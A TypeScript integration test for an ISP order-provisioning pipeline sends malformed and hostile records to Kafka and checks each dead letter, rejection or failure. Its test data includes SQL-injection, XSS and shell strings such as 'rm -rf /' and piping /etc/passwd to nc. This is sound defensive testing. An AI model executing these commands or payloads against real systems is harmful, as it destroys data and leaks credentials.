// Hostile input on the real stack (Kafka, the registry, PostgreSQL): bad records of every kind
// sent to the real topics, each with the answer it must get, a dead letter with its code and
// reason in `<service>.dlq.v1`, an OrderRejected with its code, or the OrderFailed of the step
// that refuses it, and afterwards the consumers still consume (a valid order completes and every
// service is ready). One set of services (subscriber, profile, ipam, radius, olt, billing,
// in-process, in consumer groups of their own that start at the topics' end), one tenant; every
// case is sent before the first answer is checked, and each answer is found by its order id or
// by where its record landed. docs/hostile-input.md is this table in prose.
import { randomUUID } from "node:crypto";
import type { Producer, RecordMetadata } from "kafkajs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EventData, Message } from "../../schemas/generated/events.js";
import { provisionOrder, type ProvisionOrder } from "../../scripts/crm.js";
import { setupTenants, type TenantSpec } from "../../scripts/tenant-setup.js";
import { connect } from "../../shared/db.js";
import { eventHeaders } from "../../shared/outbox.js";
import { runService, type RunningService } from "../../shared/service.js";
import { dlqTopic, topics } from "../../shared/topics.js";
import { definition as billing } from "../../services/billing/service.js";
import { definition as ipam } from "../../services/ipam/service.js";
import { definition as olt } from "../../services/olt/service.js";
import { definition as profile } from "../../services/profile/service.js";
import { definition as radius } from "../../services/radius/service.js";
import { definition as subscriber } from "../../services/subscriber/service.js";
import { runId, testEnv } from "../support/env.js";
import { groupAdmin, tp, type Groups } from "../support/groups.js";
import { testKafka, waitUntil } from "../support/kafka.js";
import { tap, type Tap, type Tapped } from "../support/tap.js";
import { testCodec } from "../support/watch.js";

const run = runId();
const tenant = `hx-${run}`;
const otherTenant = `hx-other-${run}`;
const suffix = `-hostile-${run}`;
const { sql } = connect(testEnv.DATABASE_URL);
const serial = (n: number) => `HX${run.slice(-8)}${String(n).padStart(2, "0")}`.toUpperCase();

const definitions = [subscriber, profile, ipam, radius, olt, billing].map((d) => d());
const groupsOf = definitions.map((d) => ({ name: d.name, groupId: `${d.name}${suffix}`, topics: d.consumes }));
const lifecycleConsumers = groupsOf.filter((g) => g.topics.includes(topics.lifecycle)).map((g) => g.name);

const spec: TenantSpec = {
  tenantId: tenant,
  plans: [{ planId: "fiber-100", name: "Fiber 100", downloadMbps: 100, uploadMbps: 20 }],
  pools: [
    { name: "v4", kind: "ipv4", cidr: "100.90.0.0/24", gateway: "100.90.0.1", reserve: ["100.90.0.2-100.90.0.9"], isDefault: true },
    { name: "customers-v4", kind: "ipv4", cidr: "198.51.100.0/24", gateway: "198.51.100.1", usage: "static" },
  ],
  olts: [{ oltId: "olt-1", name: "Hostile OLT", onus: [1, 2, 3].map((n) => ({ port: `0/1/${n}`, serial: serial(n) })) }],
};

let services: RunningService[] = [];
let groups: Groups;
let tapped: Tap;
let producer: Producer;

// ---- what a case sends -------------------------------------------------------------------------

interface Sent {
  readonly topic: string;
  readonly partition: number;
  readonly offset: number;
  readonly eventId?: string;
}

async function sendRaw(topic: string, key: string | null, value: Buffer | null, headers: Record<string, string> = {}): Promise<Sent> {
  const meta: RecordMetadata[] = await producer.send({ topic, acks: -1, messages: [{ key, value, headers }] });
  const r = meta[0];
  if (!r?.baseOffset) throw new Error(`no offset for the record sent to ${topic}`);
  return { topic, partition: r.partition, offset: Number(r.baseOffset) };
}

/** An event encoded as its producer would (the registry subject of `encodeAs`), sent to `topic` under `key`. */
async function sendEvent(m: Message, topic: string, key: string | null, encodeAs = topic): Promise<Sent> {
  const sent = await sendRaw(topic, key, await testCodec.encode(encodeAs, m), eventHeaders(m));
  return { ...sent, eventId: m.meta.event_id };
}

let orders = 0;
/** A valid order of the tenant: an ethernet line (no ONU), IPv4 from the default pool. */
const order = (over: Partial<ProvisionOrder> = {}): ProvisionOrder => {
  orders += 1;
  return {
    order_id: `hx-${run}-${orders}`,
    crm_reference: `hx-cust-${run}-${orders}`,
    first_name: "Ada",
    last_name: "Lovelace",
    email: "ada@example.com",
    service_address: "1 Fiber Street",
    connection_type: "ethernet",
    service_plan_id: "fiber-100",
    service_vlan: 300,
    ipv6_assignment_mode: "none",
    ...over,
  };
};
const ftth = (n: number, over: Partial<ProvisionOrder> = {}) => order({ connection_type: "ftth", onu_serial: serial(n), service_vlan: 100, inner_vlan: 1000 + orders + 1, qinq_enabled: true, ...over });
const placed = (o: ProvisionOrder, t = tenant) => provisionOrder(t, o);
const place = (o: ProvisionOrder, t = tenant, key: string | null = o.crm_reference) => sendEvent(placed(o, t), topics.crmOrders, key);

type LifecycleType = "SuspendOrderPlaced" | "ResumeOrderPlaced" | "ModifyOrderPlaced" | "TerminateOrderPlaced";
function lifecycleOrder<K extends LifecycleType>(t: string, type: K, data: EventData<K>): Message<K> {
  const meta = { event_id: randomUUID(), occurred_at: Date.now(), tenant_id: t, subscriber_id: data.subscriber_id, correlation_id: data.order_id, causation_id: null, producer: "crm" };
  return { type, meta, data } as Message<K>;
}
const placeLifecycle = (m: Message) => sendEvent(m, topics.crmOrders, m.meta.subscriber_id);

// ---- what a case expects -----------------------------------------------------------------------

type Expected =
  /** A dead letter in each of these services' DLQs, for the record sent. */
  | { readonly kind: "dlq"; readonly services: readonly string[]; readonly code: string; readonly reason: string }
  | { readonly kind: "rejected"; readonly reasons: ReadonlyArray<{ readonly field: string | null; readonly code: string }> }
  | { readonly kind: "failed"; readonly step: string; readonly code: string }
  | { readonly kind: "completed" }
  /** Kafka itself refuses the record: the producer gets the error, no service sees anything. */
  | { readonly kind: "refused-by-kafka" }
  /** Handled (the intake committed past it) and answered with nothing: the CRM holds only `crmHolds` for the order id. */
  | { readonly kind: "nothing"; readonly crmHolds: readonly string[] };

interface Case {
  readonly name: string;
  readonly topic: string;
  readonly expected: Expected;
  /** The order id the answer is keyed by (answers on crm.order-status.v1). */
  readonly orderId?: string;
  readonly send: () => Promise<Sent | { readonly refused: unknown }>;
}

const dlqOnly = (code: string, reason: string, services: readonly string[] = ["subscriber"]): Expected => ({ kind: "dlq", services, code, reason });
const rejected = (...reasons: Array<[string | null, string]>): Expected => ({ kind: "rejected", reasons: reasons.map(([field, code]) => ({ field, code })) });

/** A provision order case: the order, and the answer its order id gets. */
function provisionCase(name: string, o: ProvisionOrder, expected: Expected, options: { tenant?: string; key?: string | null } = {}): Case {
  return { name, topic: topics.crmOrders, expected, orderId: o.order_id, send: () => place(o, options.tenant ?? tenant, options.key === undefined ? o.crm_reference : options.key) };
}

// The subscriber every case that needs one refers to: active, FTTH on ONU 1, static 198.51.100.10.
const existing = ftth(1, { static_ipv4: "198.51.100.10", ipv6_assignment_mode: "none" });

/** Every case; `existingId` is the subscriber of `existing` (the names do not depend on it). */
function cases(existingId: string): Case[] {
  const valid = placed(order());
  const truncate = async () => {
    const bytes = await testCodec.encode(topics.crmOrders, placed(order()));
    return bytes.subarray(0, Math.floor(bytes.length / 2));
  };
  const wrongOnOrders: Message<"IpAllocated"> = {
    type: "IpAllocated",
    meta: { event_id: randomUUID(), occurred_at: Date.now(), tenant_id: tenant, subscriber_id: existingId, correlation_id: "forged", causation_id: null, producer: "intruder" },
    data: { ips: { ipv4: "100.90.0.200", ipv6: null, ipv6_prefix: null, source: "dynamic" } },
  };
  const nul = order({ first_name: "Ada\u0000Lovelace" });
  const huge = order({ first_name: "x".repeat(990_000) });
  const longId = order();
  const sqlName = order({ first_name: "Robert'); DROP TABLE subscriber.subscribers;--", last_name: "' OR '1'='1" });
  const shell = order({ last_name: "$(rm -rf / --no-preserve-root)", service_address: "`reboot`; cat /etc/passwd | nc 10.0.0.1 9 &" });
  const html = order({ first_name: "<script>alert(document.cookie)</script>", service_address: "<img src=x onerror=alert(1)><b>1 Fiber St</b>", metadata: { note: "<iframe src=javascript:alert(1)>" } });
  const unicode = order({ first_name: "Zoë 😀 Z̤͔ͧ̑̓ä͖̭̈̇lg͎o", last_name: "عائشة بنت أبي بكر", service_address: "שדרות רוטשילד 1, תל אביב\n日本東京都" });
  const duplicate = { ...existing, first_name: "Mallory", service_plan_id: "fiber-100", onu_serial: serial(3), static_ipv4: null, inner_vlan: 1999 };
  const dupMessage = placed(duplicate);
  // A second order that reuses the first one's event id (a CRM bug): the inbox takes it for a redelivery.
  const reusedFirst = placed(order());
  const reusedSecond = placed(order());
  const reused = { ...reusedSecond, meta: { ...reusedSecond.meta, event_id: reusedFirst.meta.event_id } };
  const modify = (tag: string, data: Partial<EventData<"ModifyOrderPlaced">>) =>
    lifecycleOrder(tenant, "ModifyOrderPlaced", { order_id: `hx-${run}-modify-${tag}`, subscriber_id: existingId, service_plan_id: null, bandwidth_mbps: null, effective_date: null, ...data });
  const badDate = modify("date", { effective_date: "2026-02-30" });
  const badBandwidth = modify("bandwidth", { bandwidth_mbps: 1_000_000 });
  return [
    // Records that are not orders at all: the DLQ, before any service logic.
    { name: "garbage bytes", topic: topics.crmOrders, expected: dlqOnly("not-avro", "not in the Confluent Avro wire format"), send: () => sendRaw(topics.crmOrders, "hx-garbage", Buffer.from("\u0089PNG\r\n\u001a\n garbage, not avro")) },
    { name: "an empty value", topic: topics.crmOrders, expected: dlqOnly("not-avro", "not in the Confluent Avro wire format"), send: () => sendRaw(topics.crmOrders, "hx-empty", Buffer.alloc(0)) },
    { name: "a tombstone (null value)", topic: topics.crmOrders, expected: dlqOnly("not-avro", "not in the Confluent Avro wire format"), send: () => sendRaw(topics.crmOrders, "hx-tombstone", null) },
    {
      name: "the Confluent magic byte with an unknown schema id",
      topic: topics.crmOrders,
      expected: dlqOnly("unknown-schema-id", "schema id 2000000000 is not in the registry"),
      send: () => sendRaw(topics.crmOrders, "hx-unknown-id", Buffer.concat([Buffer.from([0, 0x77, 0x35, 0x94, 0x00]), Buffer.from("payload")])),
    },
    { name: "truncated Avro (half a valid order)", topic: topics.crmOrders, expected: dlqOnly("undecodable", "do not decode as fiber.crm.ProvisionOrderPlaced"), send: async () => sendRaw(topics.crmOrders, "hx-truncated", await truncate()) },
    {
      name: "a valid record of another topic's type (IpAllocated) on crm.orders.v1",
      topic: topics.crmOrders,
      expected: dlqOnly("wrong-topic", "IpAllocated belongs on subscriber.lifecycle.v1, not on crm.orders.v1"),
      send: () => sendEvent(wrongOnOrders, topics.crmOrders, existingId, topics.lifecycle),
    },
    {
      name: "a valid record of another topic's type (ProvisionOrderPlaced) on subscriber.lifecycle.v1",
      topic: topics.lifecycle,
      expected: dlqOnly("wrong-topic", "ProvisionOrderPlaced belongs on crm.orders.v1, not on subscriber.lifecycle.v1", lifecycleConsumers),
      send: () => sendEvent(valid, topics.lifecycle, valid.data.crm_reference, topics.crmOrders),
    },
    { name: "garbage bytes on subscriber.lifecycle.v1", topic: topics.lifecycle, expected: dlqOnly("not-avro", "not in the Confluent Avro wire format", lifecycleConsumers), send: () => sendRaw(topics.lifecycle, existingId, Buffer.from("garbage on the lifecycle")) },
    { name: "a valid order of 990 KB (a 990 000-character first name), near Kafka's 1 MB limit", topic: topics.crmOrders, expected: dlqOnly("too-large", "at most 524288 are accepted"), orderId: huge.order_id, send: () => place(huge) },
    {
      name: "a record over Kafka's 1 MB limit",
      topic: topics.crmOrders,
      expected: { kind: "refused-by-kafka" },
      send: () => sendRaw(topics.crmOrders, "hx-over-limit", Buffer.alloc(1_100_000, 0x41)).then((s) => s, (refused: unknown) => ({ refused })),
    },
    { name: "a NUL character in a name", topic: topics.crmOrders, expected: dlqOnly("invalid", "data.first_name holds text PostgreSQL cannot store"), orderId: nul.order_id, send: () => place(nul) },
    {
      name: "an order id of 200 characters (no answer can be keyed by it)",
      topic: topics.crmOrders,
      expected: dlqOnly("invalid", "order_id is 200 characters long; at most 100 are accepted"),
      send: () => place({ ...longId, order_id: `hx-${run}-${"o".repeat(200 - run.length - 4)}` }),
    },
    // Orders the intake answers with OrderRejected and its codes.
    provisionCase("an order with no key (it only picks the partition)", order(), { kind: "completed" }, { key: null }),
    provisionCase("an empty tenant", order(), rejected(["tenant_id", "missing_tenant"]), { tenant: "" }),
    provisionCase("an unknown tenant", order(), rejected(["tenant_id", "unknown_tenant"]), { tenant: `hx-nobody-${run}` }),
    provisionCase("an unknown plan", order({ service_plan_id: "gold-plated" }), rejected(["service_plan_id", "unknown_plan"])),
    provisionCase("VLAN 0", order({ service_vlan: 0 }), rejected(["service_vlan", "vlan_out_of_range"])),
    provisionCase("VLAN 4095", order({ service_vlan: 4095 }), rejected(["service_vlan", "vlan_out_of_range"])),
    provisionCase("C-VLAN 5000", ftth(2, { inner_vlan: 5000 }), rejected(["inner_vlan", "vlan_out_of_range"])),
    provisionCase("a negative VLAN (legacy vlan_id -1)", order({ service_vlan: null, vlan_id: -1 }), rejected(["vlan_id", "vlan_out_of_range"])),
    provisionCase("a C-VLAN without an S-VLAN", ftth(2, { service_vlan: null }), rejected(["inner_vlan", "inner_vlan_without_service_vlan"])),
    provisionCase("a malformed IPv4", order({ static_ipv4: "300.1.1.1" }), rejected(["static_ipv4", "invalid_ipv4"])),
    provisionCase("a malformed IPv6", order({ static_ipv6: "2001:db8::g", ipv6_assignment_mode: "slaac" }), rejected(["static_ipv6", "invalid_ipv6"])),
    provisionCase("a malformed delegated prefix", order({ delegated_ipv6_prefix: "2001:db8:1::/130", ipv6_assignment_mode: "pd" }), rejected(["delegated_ipv6_prefix", "invalid_ipv6_prefix"])),
    provisionCase("a loopback static IPv4", order({ static_ipv4: "127.0.0.1" }), rejected(["static_ipv4", "unassignable_ip"])),
    provisionCase("QinQ without a C-VLAN", order({ qinq_enabled: true }), rejected(["inner_vlan", "qinq_without_inner_vlan"])),
    provisionCase("an ONU serial on a wireless line", order({ connection_type: "wireless", onu_serial: serial(2) }), rejected(["onu_serial", "onu_serial_not_applicable"])),
    provisionCase("a terminal escape sequence in a name", order({ last_name: "Lovelace\u001b]0;pwned\u0007\u001b[2J" }), rejected(["last_name", "invalid_characters"])),
    provisionCase("an ONU serial that is an SQL statement", ftth(2, { onu_serial: "'; DROP TABLE olt.onus; --" }), rejected(["onu_serial", "invalid_onu_serial"])),
    provisionCase("a right-to-left override in the CRM reference", order({ crm_reference: `hx-cust-${run}-\u202eevil` }), rejected(["crm_reference", "invalid_characters"])),
    provisionCase("10 000 emoji as a first name", order({ first_name: "😀".repeat(10_000) }), rejected(["first_name", "too_long"])),
    provisionCase("a name of 5 100 combining marks", order({ last_name: `Z${"\u0301\u0324\u0347".repeat(1_700)}` }), rejected(["last_name", "too_long"])),
    provisionCase("an RTL (Hebrew) address of 700 characters", order({ service_address: "שדרות רוטשילד ".repeat(50) }), rejected(["service_address", "too_long"])),
    // Valid orders whose answer comes later in the chain: the CRM gets the refusing step's OrderFailed.
    provisionCase("a static IPv4 outside every pool (8.8.8.8)", order({ static_ipv4: "8.8.8.8" }), { kind: "failed", step: "ipam", code: "static_ip_outside_pools" }),
    provisionCase("a static IPv4 in a pool's reserved range", order({ static_ipv4: "100.90.0.5" }), { kind: "failed", step: "ipam", code: "static_ip_reserved" }),
    provisionCase("a static IPv4 another subscriber holds", order({ static_ipv4: "198.51.100.10" }), { kind: "failed", step: "ipam", code: "static_ip_in_use" }),
    provisionCase("an unknown ONU", ftth(9), { kind: "failed", step: "olt", code: "onu_not_discovered" }),
    provisionCase("an ONU already in use", ftth(1), { kind: "failed", step: "olt", code: "onu_in_use" }),
    // Injection-looking and unicode text within the limits: stored as it is, the order completes.
    provisionCase("SQL in the names", sqlName, { kind: "completed" }),
    provisionCase("shell in a name and the address", shell, { kind: "completed" }),
    provisionCase("HTML in a name, the address and metadata", html, { kind: "completed" }),
    provisionCase("emoji, combining marks, RTL and CJK within the limits", unicode, { kind: "completed" }),
    // The same order id again, with other content: the first answer stands, nothing new is said.
    {
      name: "a duplicate order id with different content",
      topic: topics.crmOrders,
      expected: { kind: "nothing", crmHolds: ["OrderAccepted", "OrderCompleted"] },
      orderId: existing.order_id,
      send: () => sendEvent(dupMessage, topics.crmOrders, duplicate.crm_reference),
    },
    {
      name: "a second order that reuses another order's event id",
      topic: topics.crmOrders,
      expected: { kind: "nothing", crmHolds: [] },
      orderId: reused.data.order_id,
      // The first goes before it, on the same key (so the same partition): it completes.
      send: async () => (await sendEvent(reusedFirst, topics.crmOrders, reusedFirst.data.crm_reference), sendEvent(reused, topics.crmOrders, reusedFirst.data.crm_reference)),
    },
    // Lifecycle orders.
    (() => {
      const m = lifecycleOrder(otherTenant, "SuspendOrderPlaced", { order_id: `hx-${run}-x-suspend`, subscriber_id: existingId, reason: "cross-tenant" });
      return { name: "another tenant's subscriber id in a suspend", topic: topics.crmOrders, expected: rejected(["subscriber_id", "unknown_subscriber"]), orderId: m.data.order_id, send: () => placeLifecycle(m) };
    })(),
    (() => {
      const m = lifecycleOrder(otherTenant, "TerminateOrderPlaced", { order_id: `hx-${run}-x-terminate`, subscriber_id: existingId, reason: null });
      return { name: "another tenant's subscriber id in a terminate", topic: topics.crmOrders, expected: rejected(["subscriber_id", "unknown_subscriber"]), orderId: m.data.order_id, send: () => placeLifecycle(m) };
    })(),
    (() => {
      const m = lifecycleOrder(tenant, "ResumeOrderPlaced", { order_id: `hx-${run}-resume`, subscriber_id: existingId });
      return { name: "resume of an active subscriber", topic: topics.crmOrders, expected: rejected([null, "not_suspended"]), orderId: m.data.order_id, send: () => placeLifecycle(m) };
    })(),
    (() => {
      const m = lifecycleOrder(tenant, "TerminateOrderPlaced", { order_id: `hx-${run}-terminate-unknown`, subscriber_id: randomUUID(), reason: null });
      return { name: "terminate of an unknown subscriber", topic: topics.crmOrders, expected: rejected(["subscriber_id", "unknown_subscriber"]), orderId: m.data.order_id, send: () => placeLifecycle(m) };
    })(),
    { name: "a plan change effective on 30 February", topic: topics.crmOrders, expected: rejected(["effective_date", "invalid_effective_date"]), orderId: badDate.data.order_id, send: () => placeLifecycle(badDate) },
    { name: "a plan change to 1 000 000 Mbit/s", topic: topics.crmOrders, expected: rejected(["bandwidth_mbps", "invalid_bandwidth"]), orderId: badBandwidth.data.order_id, send: () => placeLifecycle(badBandwidth) },
    (() => {
      const m = lifecycleOrder(tenant, "SuspendOrderPlaced", { order_id: `hx-${run}-suspend-sql`, subscriber_id: "' OR 1=1; --", reason: "unpaid" });
      return { name: "a suspend whose subscriber id is an SQL statement", topic: topics.crmOrders, expected: rejected(["subscriber_id", "unknown_subscriber"]), orderId: m.data.order_id, send: () => placeLifecycle(m) };
    })(),
  ];
}

// ---- the run -----------------------------------------------------------------------------------

const outcomeTypes = ["OrderCompleted", "OrderFailed", "OrderRejected"];
const statusOf = (orderId: string): Message[] =>
  tapped.seen.filter((s) => s.topic === topics.orderStatus && s.message && (s.message.data as { order_id?: string }).order_id === orderId).map((s) => s.message as Message);
async function outcome(orderId: string, timeoutMs = 90_000): Promise<Message> {
  await waitUntil(() => statusOf(orderId).some((m) => outcomeTypes.includes(m.type)), timeoutMs, () => `an outcome for ${orderId}; so far ${statusOf(orderId).map((m) => m.type).join(", ") || "none"}`);
  return statusOf(orderId).find((m) => outcomeTypes.includes(m.type)) as Message;
}

const deadLettersOf = (at: Sent, service: string): Tapped[] =>
  tapped.seen.filter(
    (s) =>
      s.topic === dlqTopic(service) &&
      s.headers["dlq-origin-topic"] === at.topic &&
      s.headers["dlq-origin-partition"] === String(at.partition) &&
      s.headers["dlq-origin-offset"] === String(at.offset),
  );

async function handledBySubscriber(at: Sent): Promise<boolean> {
  const committed = await groups.committed({ groupId: `subscriber${suffix}`, topics: [at.topic] });
  return (committed.get(tp(at.topic, at.partition)) ?? -1) > at.offset;
}

const sent = new Map<string, Sent | { readonly refused: unknown }>();
let all: Case[] = [];
let existingId = "";
const t0 = Date.now();

beforeAll(async () => {
  await setupTenants(testEnv.DATABASE_URL, [spec]);
  groups = await groupAdmin();
  producer = testKafka.producer({ retry: { retries: 2 } });
  [, tapped] = await Promise.all([
    groups.startAtEnd(groupsOf),
    tap([topics.orderStatus, ...groupsOf.map((g) => dlqTopic(g.name))]),
    producer.connect(),
  ]);
  const env = { ...testEnv, KAFKA_GROUP_SUFFIX: suffix, DEADLINE_SWEEP_TENANTS: tenant };
  // Each started with its own definition type (runService is generic in its config).
  services = await Promise.all(definitions.map((d) => runService(d as Parameters<typeof runService>[0], env)));

  const first = await place(existing);
  expect(first.eventId).toBeDefined();
  const done = await outcome(existing.order_id);
  expect(done.type).toBe("OrderCompleted");
  existingId = (done.data as EventData<"OrderCompleted">).subscriber_id;

  all = cases(existingId);
  for (const c of all) sent.set(c.name, await c.send());
}, 180_000);

afterAll(async () => {
  await Promise.all(services.map((s) => s.stop()));
  await tapped?.stop();
  await producer?.disconnect();
  await groups?.close();
  await sql.end();
  console.log(`hostile-input: ${all.length} cases, ${((Date.now() - t0) / 1000).toFixed(1)} s in all`);
}, 60_000);

describe("hostile input gets its answer", () => {
  it("sends at least 30 cases", () => {
    expect(all.length).toBeGreaterThanOrEqual(30);
  });

  // The names are known before beforeAll runs: the cases are built again there with the subscriber it provisions.
  const names = cases("").map((c) => c.name);

  it.each(names)("%s", async (name) => {
    const c = all.find((x) => x.name === name);
    const at = sent.get(name);
    if (!c || !at) throw new Error(`case ${name} was not sent`);
    const e = c.expected;
    switch (e.kind) {
      case "refused-by-kafka":
        expect("refused" in at && String(at.refused)).toMatch(/larger than the max message size|MESSAGE_TOO_LARGE|too large/i);
        return;
      case "dlq": {
        if ("refused" in at) throw new Error(`${name} was refused by Kafka: ${String(at.refused)}`);
        for (const service of e.services) {
          await waitUntil(() => deadLettersOf(at, service).length > 0, 60_000, () => `a dead letter of ${name} in ${dlqTopic(service)}`);
          const [letter] = deadLettersOf(at, service);
          expect(letter?.headers, `${service}: ${name}`).toMatchObject({ "dlq-code": e.code, "dlq-service": service });
          expect(letter?.headers["dlq-reason"]).toContain(e.reason);
        }
        // A dead letter is all: no answer is keyed by an order id it carries.
        if (c.orderId) expect(statusOf(c.orderId)).toEqual([]);
        return;
      }
      case "nothing": {
        if ("refused" in at) throw new Error(`${name} was refused by Kafka`);
        if (!c.orderId) throw new Error(`${name} has no order id`);
        await expect.poll(() => handledBySubscriber(at), { timeout: 60_000, interval: 250 }).toBe(true);
        // Handled (its event id is in the inbox), and nothing written for it: no answer, no subscriber.
        const handled = await sql`select 1 from subscriber.inbox where event_id = ${at.eventId ?? ""}`;
        const answered = await sql`select type from subscriber.outbox where meta->>'causation_id' = ${at.eventId ?? ""} and data->>'order_id' = ${c.orderId}`;
        expect({ handled: handled.length, answered: answered.map((r) => r.type) }).toEqual({ handled: 1, answered: [] });
        expect(statusOf(c.orderId).map((m) => m.type)).toEqual(e.crmHolds);
        const rows = await sql`select subscriber_id from subscriber.subscribers where tenant_id = ${tenant} and order_id = ${c.orderId}`;
        expect(rows).toHaveLength(e.crmHolds.length > 0 ? 1 : 0);
        return;
      }
      default: {
        if (!c.orderId) throw new Error(`${name} has no order id to find its answer by`);
        const got = await outcome(c.orderId);
        if (e.kind === "completed") {
          expect(got.type, JSON.stringify(got.data)).toBe("OrderCompleted");
        } else if (e.kind === "failed") {
          expect(got.type, JSON.stringify(got.data)).toBe("OrderFailed");
          expect(got.data).toMatchObject({ step: e.step, code: e.code });
        } else {
          expect(got.type, JSON.stringify(got.data)).toBe("OrderRejected");
          const reasons = (got.data as EventData<"OrderRejected">).reasons.map((r) => ({ field: r.field, code: r.code }));
          expect(reasons).toEqual(e.reasons);
        }
      }
    }
  });
});

describe("afterwards", () => {
  it("text is kept as it was sent: the injection-looking and unicode names are data", async () => {
    // SubscriberCreated as the subscriber service stored it (its outbox, jsonb) and published it.
    const customers = await sql<{ customer: { first_name: string; last_name: string } }[]>`
      select data->'customer' as customer from subscriber.outbox
       where type = 'SubscriberCreated' and meta->>'tenant_id' = ${tenant} and data->>'crm_reference' like ${`hx-cust-${run}-%`}`;
    expect(customers.map((r) => [r.customer.first_name, r.customer.last_name])).toEqual(
      expect.arrayContaining([
        ["Robert'); DROP TABLE subscriber.subscribers;--", "' OR '1'='1"],
        ["Ada", "$(rm -rf / --no-preserve-root)"],
        ["<script>alert(document.cookie)</script>", "Lovelace"],
        ["Zoë 😀 Z̤͔ͧ̑̓ä͖̭̈̇lg͎o", "عائشة بنت أبي بكر"],
      ]),
    );
  });

  it("no valid order of the tenant was dead-lettered, and the consumers still consume: a valid FTTH order placed now completes", async () => {
    const expectedLetters = new Set(
      all.flatMap((c) => {
        const at = sent.get(c.name);
        return c.expected.kind === "dlq" && at && !("refused" in at) ? [`${at.topic}:${at.partition}:${at.offset}`] : [];
      }),
    );
    const unexpected = tapped.seen.filter(
      (s) => s.topic.endsWith(".dlq.v1") && s.message?.meta.tenant_id === tenant && !expectedLetters.has(`${s.headers["dlq-origin-topic"]}:${s.headers["dlq-origin-partition"]}:${s.headers["dlq-origin-offset"]}`),
    );
    expect(unexpected.map((s) => `${s.topic} ${s.headers["dlq-code"]}: ${s.headers["dlq-reason"]}`)).toEqual([]);

    const last = ftth(2, { ipv6_assignment_mode: "none" });
    await place(last);
    expect((await outcome(last.order_id)).type).toBe("OrderCompleted");
    const ready = await Promise.all(services.map(async (s, i) => [definitions[i]?.name, (await fetch(`http://127.0.0.1:${s.health.port}/readyz`)).status] as const));
    expect(ready).toEqual(definitions.map((d) => [d.name, 200]));
  });
});
